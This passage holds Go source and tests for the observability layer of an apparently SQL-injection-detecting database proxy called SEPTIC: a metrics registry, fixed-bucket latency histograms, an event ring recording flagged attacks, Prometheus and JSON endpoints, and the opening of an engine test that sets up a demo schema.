	hs, ok := snap.Histograms["engine.stage.execute"]
	if !ok || hs.Count != 1 {
		t.Errorf("histograms = %v", snap.Histograms)
	}
}

func TestMetricsPrometheus(t *testing.T) {
	srv := httptest.NewServer(Handler(testHub(), nil))
	defer srv.Close()
	resp, err := srv.Client().Get(srv.URL + "/metrics?format=prometheus")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	body := string(raw)
	for _, want := range []string{
		"# TYPE septic_core_attacks counter",
		"septic_core_attacks 2",
		"# TYPE septic_wire_conns_active gauge",
		"septic_engine_parse_cache_entries 5",
		"# TYPE septic_engine_stage_execute_seconds histogram",
		`septic_engine_stage_execute_seconds_bucket{le="+Inf"} 1`,
		"septic_engine_stage_execute_seconds_count 1",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("exposition missing %q:\n%s", want, body)
		}
	}
}

func TestEventsEndpoint(t *testing.T) {
	srv := httptest.NewServer(Handler(testHub(), nil))
	defer srv.Close()

	var all []Event
	getJSON(t, srv.URL+"/events", &all)
	if len(all) != 2 {
		t.Fatalf("events = %d, want 2", len(all))
	}

	var attacks []Event
	getJSON(t, srv.URL+"/events?kind=attack", &attacks)
	if len(attacks) != 1 || attacks[0].Detector != "sqli/structural" || attacks[0].Distance != 3 {
		t.Errorf("attack filter = %+v", attacks)
	}

	var none []Event
	getJSON(t, srv.URL+"/events?kind=no-such-kind", &none)
	if none == nil || len(none) != 0 {
		t.Errorf("empty filter should render [], got %v", none)
	}

	resp, err := srv.Client().Get(srv.URL + "/events?n=bogus")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 400 {
		t.Errorf("bad n: status %d, want 400", resp.StatusCode)
	}
}

func TestQMEndpoint(t *testing.T) {
	dump := func(domain string) any {
		switch domain {
		case "", "default":
			return []map[string]any{{"id": "q42", "models": 1, "hits": 7}}
		case "shop":
			return []map[string]any{{"id": "shop:q1", "models": 1, "hits": 2}}
		default:
			return nil
		}
	}
	srv := httptest.NewServer(Handler(testHub(), dump))
	defer srv.Close()
	var got []map[string]any
	getJSON(t, srv.URL+"/qm", &got)
	if len(got) != 1 || got[0]["id"] != "q42" {
		t.Errorf("/qm = %v", got)
	}

	// ?domain= selects one protection domain's partition.
	got = nil
	getJSON(t, srv.URL+"/qm?domain=shop", &got)
	if len(got) != 1 || got[0]["id"] != "shop:q1" {
		t.Errorf("/qm?domain=shop = %v", got)
	}
	resp, err := srv.Client().Get(srv.URL + "/qm?domain=nope")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 404 {
		t.Errorf("/qm unknown domain: status %d, want 404", resp.StatusCode)
	}

	// Without a dump function the endpoint does not exist.
	bare := httptest.NewServer(Handler(testHub(), nil))
	defer bare.Close()
	resp, err = bare.Client().Get(bare.URL + "/qm")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 404 {
		t.Errorf("/qm without dump: status %d, want 404", resp.StatusCode)
	}
}

func TestPprofWired(t *testing.T) {
	srv := httptest.NewServer(Handler(testHub(), nil))
	defer srv.Close()
	resp, err := srv.Client().Get(srv.URL + "/debug/pprof/cmdline")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Errorf("pprof cmdline: status %d", resp.StatusCode)
	}
}
