package obs

import (
	"sync/atomic"
	"time"
)

// bucketBounds are the fixed histogram bucket upper bounds in
// nanoseconds. The range spans the pipeline's dynamic range: a cached
// hook hit lands in the first buckets (tens of ns), a full parse + two
// detections in the microsecond band, and a slow query or a stalled
// stage in the millisecond tail. Fixed bounds keep observation at two
// atomic adds — no locks, no dynamic resizing — at the cost of
// interpolated (not exact) percentiles, which is the standard
// production-metrics trade.
var bucketBounds = [...]int64{
	100,            // 100ns
	250,            // 250ns
	500,            // 500ns
	1_000,          // 1µs
	2_500,          // 2.5µs
	5_000,          // 5µs
	10_000,         // 10µs
	25_000,         // 25µs
	50_000,         // 50µs
	100_000,        // 100µs
	250_000,        // 250µs
	500_000,        // 500µs
	1_000_000,      // 1ms
	2_500_000,      // 2.5ms
	5_000_000,      // 5ms
	10_000_000,     // 10ms
	25_000_000,     // 25ms
	50_000_000,     // 50ms
	100_000_000,    // 100ms
	250_000_000,    // 250ms
	500_000_000,    // 500ms
	1_000_000_000,  // 1s
	2_500_000_000,  // 2.5s
	10_000_000_000, // 10s
}

// numBuckets counts the finite buckets plus the +Inf overflow bucket.
const numBuckets = len(bucketBounds) + 1

// Histogram is a fixed-bucket latency histogram. Observation is
// lock-free: one atomic add into the bucket, one into the running sum,
// one into the count. A nil *Histogram ignores Observe — the disabled
// configuration costs its caller only the nil check.
type Histogram struct {
	buckets [numBuckets]atomic.Int64
	count   atomic.Int64
	sum     atomic.Int64 // nanoseconds
	max     atomic.Int64 // nanoseconds, monotone CAS
}

func newHistogram() *Histogram { return &Histogram{} }

// Observe records one duration. Safe on a nil receiver.
func (h *Histogram) Observe(d time.Duration) {
	if h == nil {
		return
	}
	ns := int64(d)
	if ns < 0 {
		ns = 0
	}
	h.buckets[bucketIndex(ns)].Add(1)
	h.count.Add(1)
	h.sum.Add(ns)
	for {
		cur := h.max.Load()
		if ns <= cur || h.max.CompareAndSwap(cur, ns) {
			break
		}
	}
}

// bucketIndex binary-searches the bound table (5 comparisons for 24
// buckets — cheaper than it reads).
func bucketIndex(ns int64) int {
	lo, hi := 0, len(bucketBounds)
	for lo < hi {
		mid := (lo + hi) / 2
		if ns <= bucketBounds[mid] {
			hi = mid
		} else {
			lo = mid + 1
		}
	}
	return lo // == len(bucketBounds) means +Inf
}

// HistBucket is one exposed bucket: cumulative count of observations at
// or below UpperNS (UpperNS < 0 encodes +Inf).
type HistBucket struct {
	UpperNS    int64 `json:"upper_ns"`
	Cumulative int64 `json:"cumulative"`
}

// HistSnapshot is the point-in-time view of one histogram: totals, the
// interpolated p50/p95/p99 estimates in nanoseconds, and the cumulative
// bucket counts (the Prometheus exposition shape).
type HistSnapshot struct {
	Count   int64        `json:"count"`
	SumNS   int64        `json:"sum_ns"`
	MaxNS   int64        `json:"max_ns"`
	P50NS   int64        `json:"p50_ns"`
	P95NS   int64        `json:"p95_ns"`
	P99NS   int64        `json:"p99_ns"`
	Buckets []HistBucket `json:"buckets"`
}

// Mean returns the average observation.
func (s HistSnapshot) Mean() time.Duration {
	if s.Count == 0 {
		return 0
	}
	return time.Duration(s.SumNS / s.Count)
}

// Snapshot copies the histogram state and derives the percentile
// estimates. Buckets are read without a barrier against concurrent
// Observe calls, so a snapshot taken under load may be skewed by the
// handful of observations landing mid-read — fine for monitoring, and
// the only alternative is a lock on the observation path.
func (h *Histogram) Snapshot() HistSnapshot {
	var s HistSnapshot
	if h == nil {
		return s
	}
	var counts [numBuckets]int64
	for i := range counts {
		counts[i] = h.buckets[i].Load()
	}
	s.SumNS = h.sum.Load()
	s.MaxNS = h.max.Load()
	// Derive the total from the buckets read above, not from h.count:
	// using a separately-read count could place a percentile past the
	// last observation accounted for in counts.
	var total int64
	for _, c := range counts {
		total += c
	}
	s.Count = total
	s.Buckets = make([]HistBucket, numBuckets)
	var cum int64
	for i, c := range counts {
		cum += c
		upper := int64(-1) // +Inf
		if i < len(bucketBounds) {
			upper = bucketBounds[i]
		}
		s.Buckets[i] = HistBucket{UpperNS: upper, Cumulative: cum}
	}
	s.P50NS = percentile(counts[:], total, 0.50, s.MaxNS)
	s.P95NS = percentile(counts[:], total, 0.95, s.MaxNS)
	s.P99NS = percentile(counts[:], total, 0.99, s.MaxNS)
	return s
}

// percentile estimates the q-quantile by locating the bucket holding the
// q·total-th observation and interpolating linearly inside it. The +Inf
// bucket reports the observed maximum — better a true upper bound than a
// fabricated interpolation.
func percentile(counts []int64, total int64, q float64, max int64) int64 {
	if total == 0 {
		return 0
	}
	rank := int64(q*float64(total) + 0.5)
	if rank < 1 {
		rank = 1
	}
	if rank > total {
		rank = total
	}
	var cum int64
	for i, c := range counts {
		if c == 0 {
			continue
		}
		prev := cum
		cum += c
		if cum < rank {
			continue
		}
		if i >= len(bucketBounds) {
			return max
		}
		lower := int64(0)
		if i > 0 {
			lower = bucketBounds[i-1]
		}
		upper := bucketBounds[i]
		// Linear interpolation of the rank inside [lower, upper].
		frac := float64(rank-prev) / float64(c)
		return lower + int64(frac*float64(upper-lower))
	}
	return max
}
