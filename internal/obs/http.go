package obs

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/pprof"
	"strconv"
	"strings"
)

// HandlerOption customizes the introspection mux built by Handler.
type HandlerOption func(*handlerOptions)

type handlerOptions struct {
	health func() (bool, map[string]any)
}

// WithHealth registers a /healthz readiness endpoint. ready reports
// whether the process should receive traffic plus a detail map rendered
// in the body; not-ready is served as 503 so load balancers drain the
// instance while operators still see why (draining, shedding, …).
func WithHealth(ready func() (ok bool, detail map[string]any)) HandlerOption {
	return func(o *handlerOptions) { o.health = ready }
}

// Handler builds the introspection endpoint mux over a hub:
//
//	/metrics        — metrics snapshot as JSON; ?format=prometheus for
//	                  the Prometheus text exposition format
//	/events         — recent structured events, oldest first;
//	                  ?kind=attack filters, ?n=50 limits
//	/qm             — live QM store dump (the demo's "query models
//	                  learned" view); served only when qmDump != nil.
//	                  ?domain=NAME selects one protection domain's
//	                  partition (no parameter = the default domain)
//	/healthz        — readiness probe (with WithHealth): 200 when the
//	                  process should receive traffic, 503 otherwise,
//	                  JSON detail either way
//	/debug/pprof/…  — the standard runtime profiles
//
// qmDump returns a JSON-serializable view of the named protection
// domain's learned model store, or nil when no such domain exists
// (rendered as 404); the empty name means the default domain. It is
// injected as a closure so obs stays dependency-free.
func Handler(h *Hub, qmDump func(domain string) any, opts ...HandlerOption) http.Handler {
	var ho handlerOptions
	for _, opt := range opts {
		opt(&ho)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, r *http.Request) {
		snap := h.Metrics.Snapshot()
		if strings.HasPrefix(r.URL.Query().Get("format"), "prom") {
			w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
			writePrometheus(w, snap)
			return
		}
		writeJSON(w, snap)
	})
	mux.HandleFunc("/events", func(w http.ResponseWriter, r *http.Request) {
		kind := r.URL.Query().Get("kind")
		n := 0
		if s := r.URL.Query().Get("n"); s != "" {
			v, err := strconv.Atoi(s)
			if err != nil || v < 0 {
				http.Error(w, "n must be a non-negative integer", http.StatusBadRequest)
				return
			}
			n = v
		}
		events := h.Events.Recent(kind, n)
		if events == nil {
			events = []Event{} // render [], not null
		}
		writeJSON(w, events)
	})
	if qmDump != nil {
		mux.HandleFunc("/qm", func(w http.ResponseWriter, r *http.Request) {
			dump := qmDump(r.URL.Query().Get("domain"))
			if dump == nil {
				http.Error(w, "unknown domain", http.StatusNotFound)
				return
			}
			writeJSON(w, dump)
		})
	}
	if ho.health != nil {
		mux.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {
			ok, detail := ho.health()
			body := map[string]any{"ready": ok}
			for k, v := range detail {
				body[k] = v
			}
			w.Header().Set("Content-Type", "application/json")
			if !ok {
				w.WriteHeader(http.StatusServiceUnavailable)
			}
			enc := json.NewEncoder(w)
			enc.SetIndent("", "  ")
			_ = enc.Encode(body)
		})
	}
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	return mux
}

func writeJSON(w http.ResponseWriter, v any) {
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}

// writePrometheus renders the snapshot in the Prometheus text exposition
// format. Metric names are prefixed "septic_" and sanitized (dots and
// dashes to underscores); histograms expose the conventional
// _bucket{le=…} / _sum / _count triple with le in seconds.
func writePrometheus(w http.ResponseWriter, s Snapshot) {
	for _, name := range sortedKeys(s.Counters) {
		p := promName(name)
		fmt.Fprintf(w, "# TYPE %s counter\n%s %d\n", p, p, s.Counters[name])
	}
	for _, name := range sortedKeys(s.Gauges) {
		p := promName(name)
		fmt.Fprintf(w, "# TYPE %s gauge\n%s %d\n", p, p, s.Gauges[name])
	}
	for _, name := range sortedKeys(s.Histograms) {
		hs := s.Histograms[name]
		p := promName(name) + "_seconds"
		fmt.Fprintf(w, "# TYPE %s histogram\n", p)
		for _, b := range hs.Buckets {
			le := "+Inf"
			if b.UpperNS >= 0 {
				le = strconv.FormatFloat(float64(b.UpperNS)/1e9, 'g', -1, 64)
			}
			fmt.Fprintf(w, "%s_bucket{le=%q} %d\n", p, le, b.Cumulative)
		}
		fmt.Fprintf(w, "%s_sum %g\n", p, float64(hs.SumNS)/1e9)
		fmt.Fprintf(w, "%s_count %d\n", p, hs.Count)
	}
}

// promName maps a registry metric name onto the Prometheus charset.
func promName(name string) string {
	var b strings.Builder
	b.Grow(len(name) + 7)
	b.WriteString("septic_")
	for i := 0; i < len(name); i++ {
		c := name[i]
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9':
			b.WriteByte(c)
		default:
			b.WriteByte('_')
		}
	}
	return b.String()
}
