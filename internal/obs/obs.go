// Package obs is the observability layer: a dependency-free metrics
// registry (counters, gauges, latency histograms) plus a bounded
// structured-event ring, exposed over the introspection HTTP endpoints
// of http.go. It exists so the paper's demo can be *watched* on a live
// septicd — queries crossing the validation→execution boundary, the QM
// store training, attacks flagged with their detector and distance —
// instead of read off opaque counters after the fact.
//
// Design constraints, in order:
//
//   - Disabled must be free: every instrumented component holds a nil
//     *Hub (or nil *Histogram etc.) by default and guards its
//     instrumentation behind one pointer check, so the cached hot path
//     keeps its zero-allocation guarantee and its nanosecond budget.
//   - Enabled must be cheap: counters and gauges are single atomics,
//     histogram observation is two atomic adds into fixed buckets, and
//     event publication takes one short mutex for a ring slot. Nothing
//     on the query path formats strings or allocates per observation.
//   - No dependencies: the package imports only the standard library,
//     and nothing under internal/ imports it except the leaves being
//     instrumented — obs must never create an import cycle.
package obs

import (
	"sort"
	"sync"
	"sync/atomic"
)

// Counter is a monotonically increasing metric. The zero value is ready
// to use; a nil *Counter ignores Add (disabled instrumentation).
type Counter struct {
	v atomic.Int64
}

// Add increments the counter by n. Safe on a nil receiver.
func (c *Counter) Add(n int64) {
	if c == nil {
		return
	}
	c.v.Add(n)
}

// Inc increments the counter by one. Safe on a nil receiver.
func (c *Counter) Inc() { c.Add(1) }

// Value returns the current count. Safe on a nil receiver.
func (c *Counter) Value() int64 {
	if c == nil {
		return 0
	}
	return c.v.Load()
}

// Gauge is a metric that can go up and down (active connections, backlog
// occupancy). A nil *Gauge ignores all writes.
type Gauge struct {
	v atomic.Int64
}

// Set stores the gauge value. Safe on a nil receiver.
func (g *Gauge) Set(n int64) {
	if g == nil {
		return
	}
	g.v.Store(n)
}

// Add moves the gauge by n (negative to decrement). Safe on a nil
// receiver.
func (g *Gauge) Add(n int64) {
	if g == nil {
		return
	}
	g.v.Add(n)
}

// Value returns the current gauge reading. Safe on a nil receiver.
func (g *Gauge) Value() int64 {
	if g == nil {
		return 0
	}
	return g.v.Load()
}

// Registry names and owns the metrics of one process. Metric handles are
// created (or found) by name; reads happen through Snapshot. Lookup is
// mutex-guarded but metrics are resolved once at component construction
// and cached as struct fields, so the query path never touches the map.
type Registry struct {
	mu         sync.Mutex
	counters   map[string]*Counter
	gauges     map[string]*Gauge
	gaugeFuncs map[string]func() int64
	hists      map[string]*Histogram
}

// NewRegistry builds an empty metrics registry.
func NewRegistry() *Registry {
	return &Registry{
		counters:   make(map[string]*Counter),
		gauges:     make(map[string]*Gauge),
		gaugeFuncs: make(map[string]func() int64),
		hists:      make(map[string]*Histogram),
	}
}

// Counter returns the named counter, creating it on first use. A nil
// registry returns nil, which is a valid disabled counter.
func (r *Registry) Counter(name string) *Counter {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	c, ok := r.counters[name]
	if !ok {
		c = &Counter{}
		r.counters[name] = c
	}
	return c
}

// Gauge returns the named gauge, creating it on first use. A nil
// registry returns nil.
func (r *Registry) Gauge(name string) *Gauge {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	g, ok := r.gauges[name]
	if !ok {
		g = &Gauge{}
		r.gauges[name] = g
	}
	return g
}

// GaugeFunc registers a gauge computed at snapshot time by calling f —
// the pull shape for values a component already tracks (cache occupancy,
// live connection counts). f must be safe to call from any goroutine.
// No-op on a nil registry.
func (r *Registry) GaugeFunc(name string, f func() int64) {
	if r == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.gaugeFuncs[name] = f
}

// Histogram returns the named latency histogram, creating it on first
// use. A nil registry returns nil, which is a valid disabled histogram.
func (r *Registry) Histogram(name string) *Histogram {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	h, ok := r.hists[name]
	if !ok {
		h = newHistogram()
		r.hists[name] = h
	}
	return h
}

// Snapshot is a point-in-time copy of every metric, the JSON body of
// /metrics. Maps are keyed by metric name.
type Snapshot struct {
	Counters   map[string]int64        `json:"counters"`
	Gauges     map[string]int64        `json:"gauges"`
	Histograms map[string]HistSnapshot `json:"histograms"`
}

// Snapshot reads every metric once. Gauge funcs are called outside the
// registry lock-free metric reads but inside the registration lock;
// they must not re-enter the registry.
func (r *Registry) Snapshot() Snapshot {
	s := Snapshot{
		Counters:   make(map[string]int64),
		Gauges:     make(map[string]int64),
		Histograms: make(map[string]HistSnapshot),
	}
	if r == nil {
		return s
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	for name, c := range r.counters {
		s.Counters[name] = c.Value()
	}
	for name, g := range r.gauges {
		s.Gauges[name] = g.Value()
	}
	for name, f := range r.gaugeFuncs {
		s.Gauges[name] = f()
	}
	for name, h := range r.hists {
		s.Histograms[name] = h.Snapshot()
	}
	return s
}

// names returns the sorted keys of a metric map — Prometheus exposition
// and tests want deterministic order.
func sortedKeys[V any](m map[string]V) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// Hub bundles the registry and the event ring: the single handle an
// instrumented component takes. A nil *Hub disables observability
// entirely — components must guard timing work behind a nil check and
// may call Publish/metric methods unconditionally (all are nil-safe).
type Hub struct {
	Metrics *Registry
	Events  *Ring
}

// NewHub builds a hub with a fresh registry and an event ring bounded to
// capacity entries (DefaultRingCapacity if capacity <= 0).
func NewHub(capacity int) *Hub {
	return &Hub{Metrics: NewRegistry(), Events: NewRing(capacity)}
}

// Publish appends an event to the hub's ring. Safe on a nil hub.
func (h *Hub) Publish(e Event) {
	if h == nil {
		return
	}
	h.Events.Publish(e)
}
