package obs

import (
	"sync"
	"testing"
	"time"
)

func TestNilSafety(t *testing.T) {
	// Every handle must be inert at nil: disabled instrumentation calls
	// these unconditionally.
	var c *Counter
	c.Add(3)
	c.Inc()
	if c.Value() != 0 {
		t.Error("nil counter has a value")
	}
	var g *Gauge
	g.Set(7)
	g.Add(-1)
	if g.Value() != 0 {
		t.Error("nil gauge has a value")
	}
	var h *Histogram
	h.Observe(time.Millisecond)
	if s := h.Snapshot(); s.Count != 0 {
		t.Error("nil histogram observed something")
	}
	var r *Ring
	r.Publish(Event{Kind: KindAttack})
	if r.Len() != 0 || r.Recent("", 0) != nil {
		t.Error("nil ring buffered an event")
	}
	var reg *Registry
	if reg.Counter("x") != nil || reg.Gauge("x") != nil || reg.Histogram("x") != nil {
		t.Error("nil registry returned live metrics")
	}
	reg.GaugeFunc("x", func() int64 { return 1 })
	if s := reg.Snapshot(); len(s.Counters) != 0 {
		t.Error("nil registry snapshot non-empty")
	}
	var hub *Hub
	hub.Publish(Event{Kind: KindAttack}) // must not panic
}

func TestRegistryHandlesAreStable(t *testing.T) {
	r := NewRegistry()
	if r.Counter("a") != r.Counter("a") {
		t.Error("same name resolved two counters")
	}
	if r.Gauge("g") != r.Gauge("g") {
		t.Error("same name resolved two gauges")
	}
	if r.Histogram("h") != r.Histogram("h") {
		t.Error("same name resolved two histograms")
	}
	r.Counter("a").Add(2)
	r.Gauge("g").Set(-4)
	r.GaugeFunc("f", func() int64 { return 11 })
	s := r.Snapshot()
	if s.Counters["a"] != 2 || s.Gauges["g"] != -4 || s.Gauges["f"] != 11 {
		t.Errorf("snapshot mismatch: %+v", s)
	}
}

func TestHistogramPercentiles(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("lat")
	// 100 observations at ~1µs, 10 at ~1ms: p50 must sit in the
	// microsecond band, p99 in the millisecond band.
	for i := 0; i < 100; i++ {
		h.Observe(900 * time.Nanosecond)
	}
	for i := 0; i < 10; i++ {
		h.Observe(900 * time.Microsecond)
	}
	s := h.Snapshot()
	if s.Count != 110 {
		t.Fatalf("count = %d, want 110", s.Count)
	}
	if s.P50NS <= 0 || s.P50NS > 1_000 {
		t.Errorf("p50 = %dns, want in (0, 1µs]", s.P50NS)
	}
	if s.P99NS < 500_000 || s.P99NS > 1_000_000 {
		t.Errorf("p99 = %dns, want in [0.5ms, 1ms]", s.P99NS)
	}
	if s.MaxNS != 900_000 {
		t.Errorf("max = %dns, want 900µs", s.MaxNS)
	}
	if got := s.Mean(); got < 70*time.Microsecond || got > 100*time.Microsecond {
		t.Errorf("mean = %v, out of expected band", got)
	}
}

func TestHistogramOverflowBucket(t *testing.T) {
	h := newHistogram()
	h.Observe(time.Hour) // beyond the last finite bound
	s := h.Snapshot()
	if s.Count != 1 {
		t.Fatalf("count = %d", s.Count)
	}
	if s.P99NS != int64(time.Hour) {
		t.Errorf("overflow percentile = %d, want the observed max", s.P99NS)
	}
	last := s.Buckets[len(s.Buckets)-1]
	if last.UpperNS != -1 || last.Cumulative != 1 {
		t.Errorf("+Inf bucket = %+v", last)
	}
}

func TestBucketIndexMatchesLinearScan(t *testing.T) {
	probes := []int64{0, 1, 99, 100, 101, 999, 1_000, 1_001, 5 * 1e9, 10_000_000_000, 10_000_000_001}
	for _, ns := range probes {
		want := len(bucketBounds)
		for i, b := range bucketBounds {
			if ns <= b {
				want = i
				break
			}
		}
		if got := bucketIndex(ns); got != want {
			t.Errorf("bucketIndex(%d) = %d, want %d", ns, got, want)
		}
	}
}

func TestRingOverwritesOldest(t *testing.T) {
	r := NewRing(4)
	fixed := time.Date(2026, 8, 6, 12, 0, 0, 0, time.UTC)
	r.SetClock(func() time.Time { return fixed })
	for i := 0; i < 6; i++ {
		kind := KindStore
		if i%2 == 1 {
			kind = KindAttack
		}
		r.Publish(Event{Kind: kind, Detail: string(rune('a' + i))})
	}
	if r.Len() != 4 {
		t.Fatalf("len = %d, want 4", r.Len())
	}
	all := r.Recent("", 0)
	if len(all) != 4 {
		t.Fatalf("recent = %d events", len(all))
	}
	// Oldest first, and the first two (seq 1,2) were overwritten.
	if all[0].Seq != 3 || all[3].Seq != 6 {
		t.Errorf("sequence window = [%d, %d], want [3, 6]", all[0].Seq, all[3].Seq)
	}
	attacks := r.Recent(KindAttack, 0)
	for _, e := range attacks {
		if e.Kind != KindAttack {
			t.Errorf("filter leaked kind %q", e.Kind)
		}
	}
	if len(attacks) != 2 {
		t.Errorf("attack events = %d, want 2 (seq 4 and 6)", len(attacks))
	}
	if latest := r.Recent("", 1); len(latest) != 1 || latest[0].Seq != 6 {
		t.Errorf("n=1 window = %+v, want the newest event", latest)
	}
	if !all[0].Time.Equal(fixed) {
		t.Errorf("event time = %v, want the injected clock", all[0].Time)
	}
}

func TestConcurrentObservation(t *testing.T) {
	r := NewRegistry()
	ring := NewRing(64)
	h := r.Histogram("x")
	c := r.Counter("c")
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				h.Observe(time.Microsecond)
				c.Inc()
				ring.Publish(Event{Kind: KindCache})
				_ = r.Snapshot()
			}
		}()
	}
	wg.Wait()
	if got := c.Value(); got != 4000 {
		t.Errorf("counter = %d, want 4000", got)
	}
	if s := h.Snapshot(); s.Count != 4000 {
		t.Errorf("histogram count = %d, want 4000", s.Count)
	}
	if ring.Len() != 64 {
		t.Errorf("ring len = %d, want full (64)", ring.Len())
	}
}
