package obs

import (
	"sync"
	"time"
)

// Event kinds published by the instrumented pipeline. Kinds are plain
// strings so obs needs no knowledge of the packages it observes; the
// /events endpoint filters on them verbatim.
const (
	// KindAttack: the detector flagged a query (blocked or logged —
	// see Action).
	KindAttack = "attack"
	// KindGuardFault: the protection path panicked and was contained.
	KindGuardFault = "guard-fault"
	// KindStore: the QM store mutated (model learned, identifier
	// deleted/approved, store reloaded).
	KindStore = "store"
	// KindCache: a verdict-cache entry was invalidated by a
	// configuration or store generation bump.
	KindCache = "cache"
	// KindMode: the operation mode or configuration changed.
	KindMode = "mode"
	// KindWAL: a durability event — recovery completed, a checkpoint was
	// taken, or a write-ahead-log append failed.
	KindWAL = "wal"
	// KindOverload: an overload-control event — a domain's detection
	// breaker changed state (brownout entry, probe, recovery).
	KindOverload = "overload"
)

// Event is one structured observability record. Unlike the core
// Logger's Event — which is the *paper's* event register, rendered for
// the demo display — this is the machine-facing export: it carries the
// query skeleton, the detector that fired, and the model distance, so
// an operator at /events sees what Figs. 2–4 show on the demo screen.
type Event struct {
	Seq  int64     `json:"seq"`
	Time time.Time `json:"time"`
	// Kind is one of the Kind* constants.
	Kind string `json:"kind"`
	// Query is the decoded query text (as the parser consumed it).
	Query string `json:"query,omitempty"`
	// Skeleton is the injection-stable identity the ID hashes
	// (qstruct.Skeleton) — the "query models learned" key of the demo.
	Skeleton string `json:"skeleton,omitempty"`
	// QueryID is SEPTIC's composed identifier.
	QueryID string `json:"query_id,omitempty"`
	// Detector names what fired: "sqli/structural", "sqli/syntactical",
	// or "stored/<plugin>". Empty for non-attack events.
	Detector string `json:"detector,omitempty"`
	// Distance quantifies how far the query structure sat from its
	// closest model: the node-count delta for structural mismatches, the
	// index of the first mismatching node for syntactical ones.
	Distance int `json:"distance,omitempty"`
	// Class is the attack class ("sqli", "stored-injection").
	Class string `json:"class,omitempty"`
	// Action records the applied policy: "blocked", "logged",
	// "admitted" (fail-open guard fault).
	Action string `json:"action,omitempty"`
	// Detail is the human-readable explanation.
	Detail string `json:"detail,omitempty"`
}

// DefaultRingCapacity bounds the event ring when the deployment does not
// choose its own size.
const DefaultRingCapacity = 1024

// Ring is a bounded event buffer: publication overwrites the oldest
// entry once full, so a flood of events costs memory proportional to
// the capacity, never the flood. A nil *Ring ignores Publish.
type Ring struct {
	mu   sync.Mutex
	buf  []Event
	next int   // slot the next event lands in
	seq  int64 // monotone sequence stamp
	full bool
	// clock is swappable for deterministic tests.
	clock func() time.Time
}

// NewRing builds a ring bounded to capacity events
// (DefaultRingCapacity if capacity <= 0).
func NewRing(capacity int) *Ring {
	if capacity <= 0 {
		capacity = DefaultRingCapacity
	}
	return &Ring{buf: make([]Event, capacity), clock: time.Now}
}

// SetClock injects the ring's time source (tests).
func (r *Ring) SetClock(clock func() time.Time) {
	if r == nil {
		return
	}
	r.mu.Lock()
	r.clock = clock
	r.mu.Unlock()
}

// Publish stamps and stores the event, overwriting the oldest entry when
// the ring is full. Safe on a nil receiver.
func (r *Ring) Publish(e Event) {
	if r == nil {
		return
	}
	r.mu.Lock()
	r.seq++
	e.Seq = r.seq
	e.Time = r.clock()
	r.buf[r.next] = e
	r.next++
	if r.next == len(r.buf) {
		r.next = 0
		r.full = true
	}
	r.mu.Unlock()
}

// Len returns the number of buffered events.
func (r *Ring) Len() int {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.full {
		return len(r.buf)
	}
	return r.next
}

// Recent returns up to n buffered events, oldest first, optionally
// filtered by kind (empty kind matches everything). n <= 0 returns all
// matches. Safe on a nil receiver (returns nil).
func (r *Ring) Recent(kind string, n int) []Event {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	var ordered []Event
	if r.full {
		ordered = make([]Event, 0, len(r.buf))
		ordered = append(ordered, r.buf[r.next:]...)
		ordered = append(ordered, r.buf[:r.next]...)
	} else {
		ordered = append(ordered, r.buf[:r.next]...)
	}
	if kind != "" {
		kept := ordered[:0]
		for _, e := range ordered {
			if e.Kind == kind {
				kept = append(kept, e)
			}
		}
		ordered = kept
	}
	if n > 0 && len(ordered) > n {
		ordered = ordered[len(ordered)-n:]
	}
	// Hand the caller its own backing array: ordered may alias a shared
	// scratch slice after the filter above.
	out := make([]Event, len(ordered))
	copy(out, ordered)
	return out
}
