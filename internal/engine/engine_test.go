package engine

import (
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"
)

// testDB builds a DB pre-loaded with the demo schema used across tests.
func testDB(t *testing.T) *DB {
	t.Helper()
	db := New(WithClock(func() time.Time {
		return time.Date(2017, 6, 26, 12, 0, 0, 0, time.UTC)
	}))
	ddl := []string{
		`CREATE TABLE users (
			id INT PRIMARY KEY AUTO_INCREMENT,
			name TEXT NOT NULL,
			pass TEXT,
			age INT,
			city TEXT,
			vip BOOL DEFAULT FALSE)`,
		`CREATE TABLE tickets (
			id INT PRIMARY KEY AUTO_INCREMENT,
			reservID TEXT,
			creditCard INT,
			uid INT)`,
		`CREATE TABLE logs (id INT PRIMARY KEY AUTO_INCREMENT, ts INT, msg TEXT)`,
	}
	for _, q := range ddl {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("setup %q: %v", q, err)
		}
	}
	seed := []string{
